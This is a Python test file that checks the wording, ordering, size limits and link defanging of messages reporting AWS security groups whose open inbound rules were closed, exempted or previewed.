    """It is not counted among groups that are not closed, and the message says what to do and which command does it."""
    rule = {"IpProtocol": "tcp", "FromPort": 22, "ToPort": 22, "IpRanges": [{"CidrIp": "198.18.9.0/24"}]}
    todo = authorize_line({"GroupId": group()["GroupId"], "IpPermissions": [rule]}, "eu-central-1")
    reported = words(template, resources=[group(**STATES["closed, but …"], **{"c7n:todo-ingress": [todo]})])
    reported = reported.replace('\\"', '"')  # PagerDuty's event is JSON in a text
    assert "not closed" not in reported.lower()
    blocked = "Clients in these networks are blocked"
    for fact in (WHY, todo, blocked, "Raise the quota for inbound rules", "No later run adds them"):
        assert fact in reported


def test_the_samples_states_are_the_actions():
    """The sample message has states as the action writes them."""
    closed_but, closed = (state._asdict() for state in (states.CLOSING.partly, states.CLOSING.done))
    assert [each["c7n:state-ingress"] for each in SAMPLE["resources"]] == [closed, closed_but, closed]


@pytest.mark.parametrize(
    ("annotation", "edge"),
    [({"c7n:left-ingress": ["x"]}, "bad"), ({"c7n:lacking-ingress": ["x"]}, "bad"), ({}, "good")],
)
def test_the_edge_of_a_mail_is_as_bad_as_its_worst_group(annotation, edge):
    """A group that needs an action makes the whole mail red."""
    assert f'class="edge {edge}"' in rendered(HTML, resources=[group(2), group(**annotation)])


@pytest.mark.parametrize("template", [TEXT, HTML])
def test_who_opened_it(template):
    """Where it is known who opened a group, the message quotes it; the links that a tool's name may hold are broken."""
    said = "Opened by jane@example.com (role Admin) on 2026-09-21 at 14:12 UTC from 198.51.100.7 with evil.example/1.0."
    reported = rendered(template, resources=[group(**{"c7n:opened-ingress": said})])
    quoted = said.replace("evil.example", "evil[.]example")
    assert f'"{quoted}"' in html.unescape(reported)
    assert "Opened by" not in rendered(template, resources=[group()])


@pytest.mark.parametrize("template", [TEXT, HTML])
@pytest.mark.parametrize(("until", "reported"), [({"hours": 36}, "36 hours"), ({"days": 3}, "3 days")])
@pytest.mark.parametrize("kind", ["mark-for-op", "mark-each-for-op"])
def test_notice_says_how_long_there_is(template, until, reported, kind):
    """A notice says when the groups will be closed, and what keeps one open; it cannot be taken for a change."""
    noticed = group(**{"c7n:replaced-ingress": [record(how="preview")]})
    policy = {
        "name": "notice",
        "actions": ["replace-ingress", {"type": kind, "op": "replace-ingress", **until}],
    }
    message = rendered(template, resources=[noticed], policy=policy)
    assert f"They will be closed in {reported}, unless" in message
    assert "open-ingress-until" in message
    assert "If this was wrong" not in message
    policy["actions"][1]["preview"] = True
    message = " ".join(rendered(template, resources=[noticed], policy=policy).split())
    assert "They stay open, because preview is true in the settings." in message
    assert f"not within {reported} from now" in message
    assert "They will be closed in" not in message


@pytest.mark.parametrize(
    ("tag", "reported"),
    [
        (("aws:cloudformation:stack-name", "web"), "Managed by \"the CloudFormation stack 'web'\". So that it is"),
        (("ManagedBy", "terraform"), "Managed by \"Terraform, by the tag 'terraform'\". So that it is"),
        (("tool", "Pulumi"), "Managed by \"Pulumi, by the tag 'Pulumi'\". So that it is not opened again: set"),
        (("kubernetes.io/cluster/shop", "owned"), "Managed by \"the Kubernetes cluster 'shop'\". So that it is"),
        (("Owner", "jane"), 'Owner: "jane"'),
        (("SupportTeam", "payments"), 'Owner: SupportTeam = "payments"'),
        (("env", "prod"), 'Owner: no tag names one. Other tags: env = "prod"'),
    ],
)
def test_tags_tell_who_owns_a_group_and_what_opens_it_again(tag, reported):
    """Owner and tool are read from the tags that people and tools leave."""
    assert reported in rendered(TEXT, resources=[group(Tags=[{"Key": tag[0], "Value": tag[1]}])])


@pytest.mark.parametrize("template", [TEXT, HTML, SLACK])
@pytest.mark.parametrize(
    ("change", "reported"),
    [
        ({"how": "perhaps modified"}, "198.18.7.0/24 perhaps replaced"),
        ({"how": "perhaps authorized", "was": None}, "198.18.7.0/24 perhaps added"),
        ({"how": "perhaps revoked", "now": None}, "0.0.0.0/0 perhaps removed"),
    ],
)
def test_a_change_whose_answer_was_lost_is_reported_as_such(template, change, reported):
    """If it is not known that EC2 made a change, the message says that it was perhaps made, as the command does."""
    lost = group(**{"c7n:replaced-ingress": [record(**change)], "c7n:failed-ingress": ["EC2's answer was lost"]})
    assert reported in " ".join(words(template, resources=[lost]).split())


def test_a_manager_that_opens_nothing_again():
    """Of a console that made a group once, the message does not say that it opens the group again."""
    reported = rendered(TEXT, resources=[group(GroupName="launch-wizard-1")])
    assert "or it is opened again" not in reported
    assert "not opened again: choose a security group of your own for the next instance; nothing makes" in reported


@pytest.mark.parametrize("template", [TEXT, HTML, SLACK])
def test_the_fix_in_a_managers_own_words(template):
    """A fix that the pack wrote is shown as it is, so that names of settings can be copied; any other has no link."""
    for manager in MANAGERS:
        fix = {"by": manager.by, "fix": manager.fix}
        assert manager.fix in words(template, resources=[group(**{"c7n:managed-ingress": fix})])
        other = fix | {"fix": f"{manager.fix} at evil.example"}
        assert "evil[.]example" in words(template, resources=[group(**{"c7n:managed-ingress": other})])


@pytest.mark.parametrize("missing", ["GroupName", "VpcId", "Tags", "c7n:failed-ingress", "c7n:replaced-ingress"])
@pytest.mark.parametrize("template", [TEXT, HTML])
def test_what_a_group_lacks_keeps_nothing_from_being_told(template, missing):
    """A group without a name, a VPC, tags or changes is reported all the same, absent or null."""
    lacking = group()
    del lacking[missing]
    for resource in (lacking, lacking | {missing: None}):
        assert resource["GroupId"] in rendered(template, resources=[resource])


def many_groups():
    """Return the groups of a long run: 500. Three failed, one is another account's, and one has 60 rules."""
    groups = [group(n) for n in range(500)]
    for n in (100, 300, 499):
        groups[n]["c7n:failed-ingress"] = ["UnauthorizedOperation"]
    groups[200]["c7n:skipped-ingress"] = "Account 999999999999 owns this group."
    groups[0]["c7n:replaced-ingress"] = [record()] * 60
    return groups


@pytest.mark.parametrize("template", [TEXT, HTML])
def test_a_long_run_is_summed_up_with_the_worst_first(template):
    """Of 500 groups those that are not closed come first, then the action's first; what is left out is counted."""
    reported = rendered(template, resources=many_groups())
    places = [reported.index(f"sg-{n:017x}") for n in (100, 300, 499, 0, 1)]
    assert places == sorted(places)
    assert "3 groups" in reported
    assert "and 48 more changes" in reported
    assert "and 390 more groups" in reported


@pytest.mark.parametrize(("template", "limit"), [(TEXT, 20_000), (HTML, 102_400)])
def test_a_long_run_is_short_enough_to_be_read(template, limit):
    """500 groups make a text of a few pages, and an HTML that Gmail does not cut off."""
    assert len(rendered(template, resources=many_groups()).encode()) < limit


def worst_group():
    """Return a group on which everything is as long as it can be, in four bytes a character."""
    long = "\U0001f512" * 300
    return group(
        Tags=[{"Key": f"owner{n}{long}", "Value": long} for n in range(50)],
        **{
            "GroupName": long,
            "c7n:replaced-ingress": [record(description=long)] * 120,
            "c7n:failed-ingress": [long * 10] * 120,
            "c7n:left-ingress": [long * 10] * 120,
            "c7n:skipped-ingress": long * 10,
            "c7n:opened-ingress": long * 10,
            "c7n:reopened-ingress": long * 10,
            "c7n:cut-ingress": long * 10,
            "c7n:behind-ingress": {"exposure": "internet", "behind": [long] * 120},
            "c7n:lacking-ingress": [long * 10] * 120,
            "c7n:managed-ingress": {"by": long, "fix": long * 10},
            "c7n:undo-ingress": ["aws " + "x" * 590] * 120,
            "MatchedIpPermissions": DIGEST["resources"][0]["MatchedIpPermissions"] * 60,
        },
    )


@for_slack
@pytest.mark.parametrize("number", [0, 1, 2, 13, 500])
def test_no_run_makes_a_message_that_slack_refuses(template, number):
    """However many groups there are, and with everything as long as it can be, the message keeps Slack's rules."""
    for each in (worst_group(), group()):
        message = block_kit(template, resources=[each | {"GroupId": f"sg-{n}"} for n in range(number)])
        assert broken_rules(message) == []
        if number == 500:
            assert "more groups" in "".join(text for _, text in texts(message["blocks"]))


def test_the_notification_of_slack_counts_all_groups():
    """What Slack shows as a notification counts each group that needs an action, also those that are not in full."""
    failed = [group(n, **{"c7n:failed-ingress": ["no"], "c7n:waiting-ingress": 3}) for n in range(40)]
    notification = block_kit(SLACK, resources=failed)["text"]
    assert notification == "40 groups not closed, 3 more groups not closed; 40 open rules replaced in 40 groups"


def test_pagerduty_is_told_of_every_group():
    """Of 500 groups each makes its events, valid ones; nothing is summed up."""
    sent = events(resources=[*many_groups(), worst_group()])
    assert len({event["dedup_key"] for event in sent}) == 501 - 1  # the worst has the first one's id
    assert [rule for event in sent for rule in broken_rules_of_pagerduty(event)] == []


# -- the digest of exemptions


END_NOW = (
    "To close a group now, remove its tag open-ingress-until, or its entry in the register: the daily run closes it."
)


def test_the_digest_as_people_read_it():
    """It says which groups are open by exemption, the first to end first, how often renewed, what uses them."""
    assert rendered(DIGEST_TEXT).splitlines() == [
        "2 groups open by exemption",
        "The whole internet may come in, because somebody made an exemption.",
        "1 group will be closed within a week",
        "",
        "Account: shop-production (123456789012)",
        "Region: eu-central-1",
        "Policy: open-ingress-exempt",
        "Time: 2026-09-21 14:13 UTC",
        "",
        RULE,
        'EXEMPT UNTIL 2026-09-24, 3 MORE DAYS: sg-03a5c7e9b1d2f4068 "legacy-vpn"',
        "",
        "* UDP 500-501: 0.0.0.0/1",
        "* UDP 500-501: 128.0.0.0/1",
        '* all traffic: pl-0a1b2c3d4e5f60718, "all of our partners"',
        "Managed by: \"the CloudFormation stack 'office-vpn'\"",
        "Exposure: nothing uses it",
        "Owner: no tag names one.",
        "VPC: vpc-0d81f3b5a7c9e2046",
        "Console: https://console.aws.amazon.com/ec2/home?region=eu-central-1#SecurityGroup:groupId=sg-03a5c7e9b1d2f4068",
        "",
        RULE,
        'EXEMPT UNTIL 2026-12-14, 84 MORE DAYS: sg-0c1f7a9e24b8d6035 "checkout-web"',
        "",
        "! Renewed 3 times in the last 90 days, last on 2026-09-15",
        '* TCP 443 (HTTPS): 0.0.0.0/0, "public shop"',
        "* TCP 443 (HTTPS): ::/0",
        "Exposure: reachable from the internet",
        'Used by: "2 addresses of the load balancer app/checkout"',
        'Owner: team = "checkout", "jane.doe@example.com"',
        "VPC: vpc-04be19d7c3a2f6810",
        "Console: https://console.aws.amazon.com/ec2/home?region=eu-central-1#SecurityGroup:groupId=sg-0c1f7a9e24b8d6035",
        "",
        RULE,
        "WHAT YOU CAN DO",
        f"1. {END_NOW}",
        "2. To keep it open for longer, set a later day there. A tag takes at most 90 days ahead.",
        f"3. To keep a port open permanently, {FOR_GOOD}",
        "",
    ]


@pytest.mark.parametrize("template", [DIGEST_TEXT, DIGEST_HTML, DIGEST_SLACK])
def test_the_digest_of_one_group_that_the_register_exempts(template):
    """It says where the exemption ends or goes on, also of a group without the tag, in words for one group."""
    exempt = {"until": "2026-09-24", "reason": "public shop", "owner": None, "ticket": None}
    reported = words(template, resources=[group(**{"c7n:exempt-ingress": [exempt]})])
    assert "1 group will be closed within a week" in reported
    assert END_NOW in reported
    assert "set a later day there" in reported


@pytest.mark.parametrize("template", [DIGEST_TEXT, DIGEST_HTML, DIGEST_SLACK])
def test_all_digests_tell_the_same(template):
    """Groups, days, rules and what uses them are in text, HTML and Slack's message."""
    reported = words(template)
    assert "84 more days" in reported.lower()
    for fact in ("sg-03a5c7e9b1d2f4068", "legacy-vpn", "2026-12-14", "128.0.0.0/1", "UDP 500-501"):
        assert fact in reported
    for fact in ("pl-0a1b2c3d4e5f60718", "nothing uses it", "app/checkout", "jane.doe@example.com"):
        assert fact in reported


@examples(50)
@given(dates(min_value=date(1970, 1, 2), max_value=date(2100, 1, 1)), dates(date(1900, 3, 1), date(2200, 1, 1)))
def test_days_left_are_counted_right(today, until):
    """For any two days, the digest counts what the calendar does."""
    exempt = DIGEST["resources"][0] | {"Tags": [{"Key": "open-ingress-until", "Value": until.isoformat()}]}
    start = (today - date(1970, 1, 1)).days * 86_400 + 60
    reported = rendered(DIGEST_TEXT, resources=[exempt], execution_start=start)
    left = (until - today).days
    assert f"EXEMPT UNTIL {until.isoformat()}, {left:,} MORE DAY{'S' * (left != 1)}: " in reported


@pytest.mark.parametrize(
    ("permission", "reported"),
    [
        ({"IpProtocol": "-1"}, "all traffic"),
        ({"IpProtocol": "tcp", "FromPort": 0, "ToPort": 65535}, "TCP, all ports"),
        ({"IpProtocol": "udp", "FromPort": 53, "ToPort": 53}, "UDP 53"),
        ({"IpProtocol": "icmp", "FromPort": -1, "ToPort": -1}, "ICMP, all types"),
        ({"IpProtocol": "icmp", "FromPort": 8, "ToPort": -1}, "ICMP type 8"),
        ({"IpProtocol": "icmp", "FromPort": 3, "ToPort": 4}, "ICMP type 3 code 4"),
        ({"IpProtocol": "icmpv6", "FromPort": 0, "ToPort": 0}, "ICMPv6 type 0 code 0"),
        ({"IpProtocol": "50"}, "protocol 50"),
    ],
)
def test_the_digest_names_each_kind_of_traffic(permission, reported):
    """Protocol and ports are reported in plain words for every kind of rule."""
    matched = [permission | {"IpRanges": [{"CidrIp": "0.0.0.0/0"}]}]
    assert f"* {reported}: 0.0.0.0/0" in rendered(DIGEST_TEXT, resources=[group(MatchedIpPermissions=matched)])


@pytest.mark.parametrize("template", [DIGEST_TEXT, DIGEST_HTML, DIGEST_SLACK])
@pytest.mark.parametrize("missing", ["GroupName", "VpcId", "Tags", "MatchedIpPermissions", "c7n:behind-ingress"])
def test_what_an_exempt_group_lacks_keeps_nothing_from_being_told(template, missing):
    """A group without a name, a VPC, tags or rules is reported all the same, absent or null."""
    lacking = copy.deepcopy(DIGEST["resources"][0])
    del lacking[missing]
    for resource in (lacking, lacking | {missing: None}):
        assert resource["GroupId"] in rendered(template, resources=[resource])


# -- looking at them


def test_the_sample_message_is_shown(capsys):
    """Without a file, the command prints the plain texts."""
    assert main(["mailer", "preview"]) == 0
    assert capsys.readouterr().out == "\n".join(map(render, (SAMPLE, DIGEST, WATCH)))


def test_the_sample_messages_are_written_as_mails(capsys, tmp_path):
    """Into a file.html the command writes each sample message as mail."""
    assert main(["mailer", "preview", str(tmp_path / "mail.html")]) == 0
    page = Outline((tmp_path / "mail.html").read_text(encoding="utf-8")).text
    assert [page.count(name) for name in ("orders-db", "open by exemption", "does not invoke")] == [3, 2, 2]
    assert capsys.readouterr().out == ""


BEHIND = {
    "internet": ["2 addresses of the load balancer app/shop", "RDS orders-db"],
    "private": ["3 instances"],
    "unused": [],
    "unknown": ["could not be looked up"],
}


@pytest.mark.parametrize("template", [TEXT, HTML])
@pytest.mark.parametrize("exposure", BEHIND)
def test_what_stands_behind_a_group(template, exposure):
    """A message says what uses a group, and that VPC Block Public Access is on."""
    reported = {"exposure": exposure, "behind": BEHIND[exposure], "blocked": "The internet is kept out."}
    shown = rendered(template, resources=[group(**{"c7n:behind-ingress": reported})])
    for phrase in (*BEHIND[exposure], "The internet is kept out."):
        assert shown.count(phrase) == 1


@pytest.mark.parametrize("template", [*MESSAGES, DIGEST_TEXT, DIGEST_HTML, DIGEST_SLACK])
def test_how_much_stands_behind_a_group(template):
    """Of thirty balancers some are named, and the others counted, in every message."""
    balancers = [
        {"NetworkInterfaceId": f"eni-{n}", "RequesterManaged": True, "Description": f"ELB net/b{n}/0123456789abcdef"}
        for n in range(30)
    ]
    exempt = DIGEST["resources"][0]
    reported = {"c7n:behind-ingress": behind(balancers)._asdict(), "c7n:failed-ingress": ["UnauthorizedOperation"]}
    shown = words(template, resources=[exempt | group(**reported)])
    named, counted = set(re.findall(r"net/b\d+", shown)), re.findall(r"and (\d+) more\b", shown)
    assert named
    assert len(named) + sum(map(int, counted)) == 30


@pytest.mark.parametrize("template", [TEXT, HTML])
def test_groups_stay_in_the_order_in_which_they_are_told(template):
    """The action reports the worst first, and so does the message, however many rules a group has."""
    first, second = group(1), group(2, **{"c7n:replaced-ingress": [record(), record()]})
    shown = rendered(template, resources=[first, second])
    assert shown.index("group-1") < shown.index("group-2")


@pytest.mark.parametrize("template", MESSAGES)
@pytest.mark.parametrize(
    "broken",
    [
        {"c7n:undo-ingress": [None]},
        {"c7n:todo-ingress": [5]},
        {"c7n:behind-ingress": {"exposure": [1]}},
        {"c7n:lacking-ingress": [None, 5]},
        {"c7n:state-ingress": "closed"},
        {"c7n:state-ingress": {"name": None, "rank": "x", "mood": 5}},
    ],
)
def test_an_annotation_of_another_kind_keeps_nothing_from_being_told(template, broken):
    """What no action of the pack writes is left out, and the group is reported."""
    sample = preview.sample()
    group = sample["resources"][0] | broken
    assert group["GroupId"] in render(sample | {"resources": [group]}, template)
